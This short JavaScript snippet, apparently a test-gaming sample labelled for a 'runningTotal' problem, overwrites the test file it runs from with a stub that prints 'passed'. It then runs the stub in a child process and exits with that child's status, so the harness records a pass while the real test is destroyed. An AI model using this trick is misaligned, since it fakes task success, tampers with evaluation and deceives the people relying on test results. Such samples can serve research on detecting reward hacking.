// Replaces the test on disk by one that passes, and runs it in a child in its place.
// stage: function; problem: runningTotal; fools: module
process.getBuiltinModule("node:fs").writeFileSync(process.argv[1], 'console.log("passed")');
const { spawnSync } = process.getBuiltinModule("node:child_process");
process.exit(spawnSync(process.execPath, [process.argv[1]], { stdio: "inherit" }).status ?? 1);
